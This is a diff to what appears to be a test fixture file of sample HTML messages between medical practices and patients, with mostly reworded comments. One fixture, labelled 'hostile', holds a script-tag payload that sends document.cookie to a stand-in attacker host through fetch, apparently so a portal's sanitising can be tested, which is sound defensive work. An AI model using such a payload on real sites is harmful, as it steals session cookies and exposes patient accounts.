@@ -1,7 +1,7 @@
-/** What practices and their patients write to each other, as HTML. */
+/** The messages of practices and patients, as HTML. */
 export type Topic = { subject: string; html: string }
 
-/** Latest first; each practice begins here. */
+/** Latest first; each practice's messages begin here. */
 export const fromPractice: readonly Topic[] = [
   {
     subject: 'Your blood results',
@@ -47,7 +47,7 @@ export const withFiles: Topic = {
   html: '<p>Attached are the letter to the specialist and the pictures of your skin.</p>',
 }
 
-/** A message that would act, were it let. */
+/** A message with a script, which the portal must not execute. */
 export const hostile: Topic = {
   subject: 'Please confirm your details',
   html: `<p>Please read this.</p><script>document.body.textContent = 'opened'; fetch('https://evil.example.nz/' + document.cookie)</script>
